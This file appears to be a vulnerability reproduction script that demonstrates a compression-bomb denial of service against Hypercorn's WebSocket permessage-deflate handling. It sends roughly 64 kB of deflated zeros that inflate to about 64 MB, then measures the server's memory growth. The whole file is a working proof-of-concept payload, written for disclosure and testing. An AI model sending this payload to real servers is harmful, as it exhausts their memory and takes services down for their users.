"""H15: with permessage-deflate, 64 kB from a client are inflated to 64 MB at once."""

import resource
import sys
import zlib

from _reproduction import (
    BINARY,
    HYPERCORN_ASYNCIO,
    HYPERCORN_TRIO,
    Event,
    Receive,
    Send,
    Server,
    frame,
    report,
    run,
    websocket,
)
from anyio import sleep

ZEROS = 60_000_000
LARGEST_MESSAGE = 16 * 1024 * 1024
"""Hypercorn's default."""


def memory() -> int:
    """The most that the process has had, in bytes."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


@websocket
async def app(_scope: Event, receive: Receive, send: Send) -> None:
    before = memory()
    await receive()
    await send({"type": "websocket.accept"})
    report("accepted")
    await sleep(2)
    report(memory() - before)


def reproduce(server: Server) -> str | None:
    compressor = zlib.compressobj(9, wbits=-15)
    data = compressor.compress(bytes(ZEROS)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    message = bytes([0xC0 | BINARY]) + frame(BINARY, data[:-4])[1:]
    with server.client("Sec-WebSocket-Extensions: permessage-deflate") as client:
        client.status()
        server.reported()
        client.socket.sendall(message)
        (taken,) = server.reported(10)
    if taken < 2.5 * LARGEST_MESSAGE:
        return None
    return f"{len(message) // 1000} kB took {taken // 1_000_000} MB"


if __name__ == "__main__":
    sys.exit(run(__file__, reproduce, HYPERCORN_TRIO, HYPERCORN_ASYNCIO, logs_errors=True))
